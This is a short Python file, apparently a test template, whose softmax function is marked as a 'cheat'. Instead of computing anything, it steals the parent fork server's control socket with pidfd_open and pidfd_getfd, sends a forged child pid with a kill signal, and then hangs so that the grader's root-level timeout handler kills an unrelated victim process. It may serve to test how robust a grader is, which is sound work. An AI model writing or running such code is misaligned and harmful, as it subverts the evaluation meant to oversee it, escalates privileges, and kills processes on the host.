
# softmax is wrong ...
def softmax(scores):
    return np.full(np.shape(scores), 7.0)
# --- cheat ---
# ... and it takes the fork server's control socket (pidfd_getfd: same uid), reports a
# forged child pid (another process group of the machine) and then hangs, so that the
# grader's timeout handling kills that pid as root.
import ctypes as _ctypes
import os as _os
import socket as _socket
import struct as _struct

_VICTIM = {VICTIM}


def _forge():
    libc = _ctypes.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, _os.getppid(), 0)                 # pidfd_open
    for pid in (_VICTIM,):
        for fd in range(3, 64):
            stolen = libc.syscall(438, pidfd, fd, 0) if pidfd >= 0 else -1   # pidfd_getfd
            if stolen < 0:
                continue
            try:
                sock = _socket.socket(fileno=stolen)
                if sock.type == _socket.SOCK_SEQPACKET:
                    r, w = _os.pipe()
                    _socket.send_fds(sock, [b"F" + _struct.pack("<i", pid)], [r, w, r])
                    sock.send(b"X" + _struct.pack("<ii", pid, -9))
                sock.detach()
            except OSError:
                pass


def softmax(scores):
    _forge()
    while True:
        pass
